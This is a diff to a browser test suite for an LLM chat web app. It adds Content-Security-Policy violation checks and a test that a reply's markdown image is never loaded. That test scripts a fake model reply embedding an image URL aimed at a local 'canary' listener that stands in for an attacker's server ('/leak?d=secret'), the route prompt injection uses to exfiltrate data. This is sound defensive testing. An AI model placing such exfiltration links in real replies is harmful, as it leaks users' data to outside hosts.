@@ -10,8 +10,9 @@ from __future__ import annotations
 import re
 import secrets
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
+from typing import Any
 
 import pytest
 from playwright.sync_api import (
@@ -24,8 +25,9 @@ from playwright.sync_api import (
 
 from llm_chat.db import create_db_engine, session_scope
 from llm_chat.i18n import translate
+from llm_chat.models import Role
 from llm_chat.security import SecretBox
-from llm_chat.services import catalog
+from llm_chat.services import catalog, users
 from llm_chat.services.access import SYSTEM
 from tests.fake_provider import (
     FakeProvider,
@@ -34,7 +36,14 @@ from tests.fake_provider import (
     generated_tokens,
 )
 from tests.support.app_process import AppConfig, RunningApp, running_app
-from tests.support.browser import OUTPUT_DIR, FrameRecorder, chromium, screenshot
+from tests.support.browser import (
+    OUTPUT_DIR,
+    FrameRecorder,
+    PolicyViolations,
+    chromium,
+    screenshot,
+)
+from tests.support.canary import Canary
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
@@ -164,11 +173,42 @@ def browser() -> Iterator[Browser]:
         yield launched
 
 
+NewContext = Callable[..., BrowserContext]
+
+
+@pytest.fixture(scope="module")
+def policy_violations() -> PolicyViolations:
+    """The Content-Security-Policy violations of every browser context of the module."""
+    return PolicyViolations()
+
+
+@pytest.fixture(autouse=True)
+def no_policy_violations(policy_violations: PolicyViolations) -> Iterator[None]:
+    """Every test runs under the app's Content-Security-Policy without a violation."""
+    yield
+    seen = list(policy_violations.seen)
+    policy_violations.seen.clear()
+    assert seen == []
+
+
 @pytest.fixture
-def context(browser: Browser) -> Iterator[BrowserContext]:
+def new_context(browser: Browser, policy_violations: PolicyViolations) -> NewContext:
+    """Makes browser profiles (``new_context(viewport=..., locale=...)``) whose pages are
+    watched for policy violations; the caller closes them."""
+
+    def make(**options: Any) -> BrowserContext:
+        ctx = browser.new_context(**options)
+        ctx.set_default_timeout(TIMEOUT_MS)
+        policy_violations.watch(ctx)
+        return ctx
+
+    return make
+
+
+@pytest.fixture
+def context(new_context: NewContext) -> Iterator[BrowserContext]:
     """A fresh browser profile (no token in localStorage), in English."""
-    ctx = browser.new_context(viewport=VIEWPORT, locale="en-US")
-    ctx.set_default_timeout(TIMEOUT_MS)
+    ctx = new_context(viewport=VIEWPORT, locale="en-US")
     try:
         yield ctx
     finally:
@@ -241,7 +281,7 @@ def expect_conversation(page: Page, question: str) -> None:
 
 
 def test_sign_up_chat_stream_and_reload(
-    app: RunningApp, browser: Browser, context: BrowserContext, fake_provider: FakeProvider
+    app: RunningApp, new_context: NewContext, context: BrowserContext, fake_provider: FakeProvider
 ) -> None:
     """Guarded start page, registration, a streamed reply, and the saved conversation."""
     account = new_account("streamer")
@@ -325,7 +365,7 @@ def test_sign_up_chat_stream_and_reload(
     assert not frames.received_containing(PROVIDER_API_KEY)
 
     # Another browser profile: sign in again and open the conversation by its URL.
-    other = browser.new_context(viewport=VIEWPORT, locale="en-US")
+    other = new_context(viewport=VIEWPORT, locale="en-US")
     try:
         other_page = other.new_page()
         other_page.goto(conversation_url)
@@ -396,11 +436,10 @@ def test_chinese_and_dark_mode(app: RunningApp, context: BrowserContext) -> None
 
 
 def test_phone_layout_rename_and_delete(
-    app: RunningApp, browser: Browser, fake_provider: FakeProvider
+    app: RunningApp, new_context: NewContext, fake_provider: FakeProvider
 ) -> None:
     """On a phone the chat gets the full width; the sidebar opens over it to rename and delete."""
-    phone = browser.new_context(viewport={"width": 390, "height": 844}, locale="en-US")
-    phone.set_default_timeout(TIMEOUT_MS)
+    phone = new_context(viewport={"width": 390, "height": 844}, locale="en-US")
     try:
         page = phone.new_page()
         register(page, app, new_account("phone"))
@@ -476,12 +515,11 @@ def pick_model(page: Page, name: str) -> None:
 
 @pytest.mark.parametrize("language", ["en", "zh-CN"])
 def test_thinking_model_and_context_note(
-    app: RunningApp, browser: Browser, fake_provider: FakeProvider, language: str
+    app: RunningApp, new_context: NewContext, fake_provider: FakeProvider, language: str
 ) -> None:
     """A reasoning model's thinking streams into an open panel, then folds above the answer;
     a reply says which model wrote it, and when earlier messages were left out."""
-    ctx = browser.new_context(viewport=VIEWPORT, locale=language)
-    ctx.set_default_timeout(TIMEOUT_MS)
+    ctx = new_context(viewport=VIEWPORT, locale=language)
     try:
         page = ctx.new_page()
         register(page, app, new_account(f"thinker-{language.lower()}"))
@@ -536,13 +574,100 @@ def test_thinking_model_and_context_note(
         ctx.close()
 
 
+@pytest.fixture(scope="module")
+def canary() -> Iterator[Canary]:
+    """A loopback listener standing in for an attacker's server."""
+    with Canary() as listener:
+        yield listener
+
+
+def test_images_in_replies_are_never_fetched(
+    app: RunningApp, context: BrowserContext, fake_provider: FakeProvider, canary: Canary
+) -> None:
+    """A reply's markdown image (a prompt injection's way out) shows as a link and is never
+    loaded, neither when the reply ends nor on a reload; links open in a new tab; the pages
+    (chat, settings, admin) carry the security headers and run under them."""
+    account = new_account("exfiltrated")
+    page = context.new_page()
+    register(page, app, account)
+    leak = f"{canary.url}/leak?d=secret"
+    host = canary.url.removeprefix("http://")
+    fake_provider.enqueue(
+        ReplySpec(
+            text=(
+                f"Here is your chart:\n\n![leak]({leak})\n\nSee [the source]({canary.url}/page)."
+                "\n\nAnd a dot: ![](data:image/gif;base64,R0lGODlhAQABAAAAACw=)"
+            ),
+            delay=0.01,
+        )
+    )
+    page.locator("#composer").fill("Draw me a chart")
+    page.locator("#composer").press("Enter")
+    expect(page.locator("#stop-button")).to_have_count(0, timeout=REPLY_TIMEOUT_MS)
+    reply = page.locator(".assistant-message:not(.streaming)")
+    expect(reply).to_have_count(1)
+
+    def expect_safe_reply() -> None:
+        placeholder = reply.locator("a.image-link")
+        expect(placeholder).to_have_text(f"leak — {host}")
+        expect(placeholder).to_have_accessible_name(
+            f"{translate('en', 'chat.image')}: leak — {host}"
+        )
+        expect(placeholder.locator("svg")).to_have_count(1)  # the icon
+        expect(placeholder).to_have_attribute("href", leak)
+        expect(placeholder).to_have_attribute("target", "_blank")
+        expect(placeholder).to_have_attribute("rel", "noopener noreferrer")
+        expect(placeholder).to_have_attribute(
+            "title", f"{translate('en', 'chat.image_not_loaded')} {leak}"
+        )
+        link = reply.get_by_role("link", name="the source")
+        expect(link).to_have_attribute("target", "_blank")
+        expect(link).to_have_attribute("rel", "noopener noreferrer")
+        # An image without alt text, whose URL react-markdown refuses (not http(s)): no link.
+        expect(reply.locator("span.image-link")).to_have_text(translate("en", "chat.image"))
+        expect(reply.locator("img")).to_have_count(0)
+        page.wait_for_load_state("networkidle")
+        assert canary.paths == []
+
+    expect_safe_reply()
+    placeholder = reply.locator("a.image-link")
+    placeholder.hover()
+    screenshot(page, "16-image-placeholder")
+
+    # A reload renders the saved reply from the database: still nothing is fetched.
+    response = page.reload()
+    assert response is not None
+    policy = response.headers["content-security-policy"]
+    assert "img-src 'self' data: blob:" in policy
+    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
+    assert response.headers["x-frame-options"] == "DENY"
+    assert response.headers["x-content-type-options"] == "nosniff"
+    assert response.headers["referrer-policy"] == "no-referrer"
+    expect_safe_reply()
+
+    # The other pages run under the same policy (the fixture checks for violations).
+    page.locator("#settings-link").click()
+    expect(page).to_have_url(app.url + "/settings")
+    expect(page.locator("#api-key-name")).to_be_visible()
+    engine = create_db_engine(app.config.database_url)
+    try:
+        with session_scope(engine) as session:
+            users.set_role.within(session, email=account.email, role=Role.ADMIN)
+    finally:
+        engine.dispose()
+    page.goto(app.url + "/admin")
+    expect(page.locator("#add-provider")).to_be_visible()
+    expect(page.get_by_text(MODEL_NAME)).to_be_visible()
+    page.wait_for_load_state("networkidle")
+    assert canary.paths == []
+
+
 def test_a_reconnect_keeps_the_tab_in_its_conversation(
-    app: RunningApp, browser: Browser, fake_provider: FakeProvider
+    app: RunningApp, new_context: NewContext, fake_provider: FakeProvider
 ) -> None:
     """A conversation started in the tab survives a dropped connection: the tab stays in it,
     and the next message goes on in it."""
-    ctx = browser.new_context(viewport=VIEWPORT, locale="en-US")
-    ctx.set_default_timeout(TIMEOUT_MS)
+    ctx = new_context(viewport=VIEWPORT, locale="en-US")
     try:
         page = ctx.new_page()
         page.add_init_script(_KEEP_SOCKETS)
